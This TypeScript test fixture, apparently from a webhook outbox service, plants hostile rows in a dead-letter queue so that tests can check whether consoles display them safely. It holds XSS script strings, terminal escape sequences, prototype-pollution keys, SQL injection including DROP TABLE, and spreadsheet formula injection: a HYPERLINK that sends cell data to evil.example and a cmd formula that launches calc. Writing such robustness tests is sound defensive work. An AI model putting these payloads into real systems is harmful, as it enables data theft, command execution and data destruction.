/** What a dead row is overwritten with. `payload` is JSON text, so that numbers keep every digit. */
export type HostileRow = { title: string; payload: string; error?: string; subject?: string; id?: string };

const event = (data: string): string => `{"type":"user.updated","data":${data}}`;
const named = (name: string): string => event(JSON.stringify({ user: { id: "u_1", name, email: "trap@example.com" } }));

const ESC = String.fromCharCode(27);
const RIGHT_TO_LEFT_OVERRIDE = "\u202e";
const ISOLATES = "\u2066\u2069\u200b\u200f";
const DEPTH = 1_200;

/** Data that breaks careless consoles, each in one dead row. */
export const HOSTILE_ROWS: readonly HostileRow[] = [
  {
    title: "markup",
    payload: named(`<script>window.owned=1</script><img src=x onerror="window.owned=1">`),
    error: `503 Service Unavailable: <script>window.owned=1</script><svg onload=window.owned=1>`,
  },
  {
    title: "bidirectional controls",
    payload: named(`${RIGHT_TO_LEFT_OVERRIDE}gnp.exe${ISOLATES} 김민지`),
    error: `503 Service Unavailable: ${RIGHT_TO_LEFT_OVERRIDE}deliver ton saw ti${ISOLATES}`,
  },
  {
    title: "terminal escapes",
    payload: named(`${ESC}[2J${ESC}[1;31mred${ESC}]0;owned`),
    error: `500 Internal Server Error: ${ESC}[2K${ESC}[1A${ESC}[32mdelivered${ESC}[0m`,
  },
  { title: "deep nesting", payload: event(`${'{"a":'.repeat(DEPTH)}1${"}".repeat(DEPTH)}`) },
  {
    title: "200 KB",
    payload: event(JSON.stringify({ user: { id: "u_2", name: "장지우", note: "가나다 lorem ipsum ".repeat(9_400) } })),
  },
  {
    title: "long integers",
    payload: event(
      `{"user":{"id":"u_3","balance":12345678901234567890,"ref":9007199254740993,"rate":0.10000000000000000555}}`,
    ),
  },
  {
    title: "prototype keys",
    payload: event(
      `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},"toString":null,"hasOwnProperty":1}`,
    ),
  },
  {
    title: "spreadsheet formula",
    payload: named(`=HYPERLINK("https://evil.example/?"&A1,"open")`),
    error: `=cmd|' /C calc'!A0 ,"@SUM(1+1)*cmd"`,
    subject: "+u_4",
  },
  {
    title: "escaped nulls",
    payload: named("\\u0000 \\x00 %00 end"),
    error: "400 Bad Request: unexpected \\u0000 at %00, \\0 follows",
  },
  {
    title: "forged log line",
    payload: named("line one\r\nline two\u2028line three"),
    error: `503 Service Unavailable\r\n{"level":"info","msg":"delivery.retry allowed","person":"mina@ops.example"}`,
  },
  {
    title: "template and SQL syntax",
    payload: named("{{7*7}} ${7*7} '; DROP TABLE webhook_outbox_entries; --"),
    error: "500 Internal Server Error: {name} {count, plural, other {#}} <b>%s</b> $1",
    subject: "u_5' OR '1'='1",
  },
  {
    title: "id beyond a double, lower",
    id: "9007199254740992",
    payload: named("👩‍👩‍👧‍👦 Ẑ̶̧͠a̷̛͝l̵͘g̶o 한국어"),
    error: `503 Service Unavailable: ${"x".repeat(4_000)}`,
  },
  { title: "id beyond a double, upper", id: "9007199254740993", payload: named("the row next to it, as a double") },
];

const FIRST = 41;
const STEP = 379;

/** Overwrites every 379th dead row, in the order of ids, with the next hostile one. */
export const OVERWRITE_DEAD_ROWS = `
  UPDATE webhook_outbox_entries AS entry
  SET id = coalesce(hostile.id, entry.id), payload = hostile.payload,
    last_error = coalesce(hostile.error, entry.last_error), subject = coalesce(hostile.subject, entry.subject)
  FROM (SELECT id, row_number() OVER (ORDER BY id) AS place FROM webhook_outbox_entries
        WHERE dlq_at IS NOT NULL AND delivered_at IS NULL) AS dead
  JOIN (SELECT ordinality, (row ->> 'id')::bigint AS id, (row ->> 'payload')::jsonb AS payload, row ->> 'error' AS error,
          row ->> 'subject' AS subject FROM jsonb_array_elements($1::jsonb) WITH ORDINALITY AS given (row, ordinality)) AS hostile
    ON dead.place = ${FIRST} + ${STEP} * (hostile.ordinality - 1)
  WHERE entry.id = dead.id`;
